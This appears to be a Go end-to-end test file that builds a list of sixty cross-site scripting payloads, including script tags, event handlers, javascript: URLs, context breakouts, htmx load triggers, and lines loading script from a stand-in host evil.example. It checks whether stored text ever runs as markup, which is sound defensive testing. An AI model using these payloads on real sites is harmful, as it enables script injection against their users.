package e2e

import "strings"

// mark begins every case, so that the pages that show it are found. It is no part of the attack.
const mark = "gh7x"

// run is what a case does where it gets to run: it would open a dialog and change the title.
const markupRuns = "alert(document.title=7)"

// markup is the cases of stored text that would run, or load, or send something, if a page took it for markup: 60, each
// beginning with mark. None depends on a click of a person, except those whose element would be seen.
func markup() []string {
	var list []string
	for _, text := range []string{
		// elements
		`<script>RUN</script>`, `<script src=//evil.example/gh7x.js></script>`, `<script type=module>RUN</script>`, `<ScRiPt>RUN</sCrIpT>`,
		`<scr<script>ipt>RUN</script>`, `<script/x>RUN</script>`, `<img src=x onerror=RUN>`, `<img src=x onerror='RUN'>`,
		`<img src=x:x onerror="RUN">`, `<img/src=x/onerror=RUN>`, `<image src=x onerror=RUN>`, `<svg onload=RUN>`,
		`<svg/onload=RUN>`, `<svg><script>RUN</script></svg>`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`,
		`<svg><set attributeName=onload to=RUN>`, `<svg><a href=javascript:RUN><text y=20>gh7x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">`, `<math href="javascript:RUN">gh7x</math>`,
		`<math><mtext></p><style><img src onerror=RUN>`, `<video src=x onerror=RUN>`, `<video><source onerror=RUN></video>`,
		`<audio src=x onerror=RUN>`, `<body onload=RUN>`, `<body onpageshow=RUN>`, `<iframe src="javascript:RUN">`,
		`<iframe srcdoc="<script>parent.RUN</script>">`, `<iframe onload=RUN>`, `<object data="javascript:RUN">`,
		`<embed src="javascript:RUN">`, `<input autofocus onfocus=RUN>`, `<select autofocus onfocus=RUN>`,
		`<details open ontoggle=RUN>`, `<marquee onstart=RUN>`, `<style onload=RUN></style>`, `<link rel=stylesheet href=x onerror=RUN>`,
		`<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:RUN">`,
		`<form action="javascript:RUN"><button autofocus>gh7x</button></form>`, `<a href="javascript:RUN" autofocus>gh7x</a>`,
		// ways out of where text stands
		`"><script>RUN</script>`, `'><svg onload=RUN>`, `"><img src=x onerror=RUN><"`, `</title><script>RUN</script>`,
		`</textarea><script>RUN</script>`, `</option></select><script>RUN</script>`, `</script><script>RUN</script>`,
		`--><script>RUN</script><!--`, `]]><script>RUN</script>`, `</style><script>RUN</script>`, `</noscript><script>RUN</script>`,
		`" autofocus onfocus=RUN x="`, `' autofocus onfocus=RUN x='`, "\u00a0\"onmouseover=RUN//",
		// attributes of htmx, which a strict content policy does not stop
		`<div hx-get="/search?q=gh7x-fired" hx-trigger="load"></div>`, `<div data-hx-post="/signout?gh7x-fired" data-hx-trigger="load"></div>`,
		`" hx-get="/search?q=gh7x-fired" hx-trigger="load" x="`, `<button hx-on:click="RUN" autofocus>gh7x</button>`,
		`<div hx-on::after-init="RUN" hx-vals='js:{x:RUN}' hx-get="/search?q=gh7x-fired" hx-trigger="load"></div>`,
		`<meta name="htmx-config" content='{"mode":"cors"}'><hx-partial hx-target="body"><script>RUN</script></hx-partial>`,
	} {
		list = append(list, mark+strings.ReplaceAll(text, "RUN", markupRuns))
	}
	return list
}
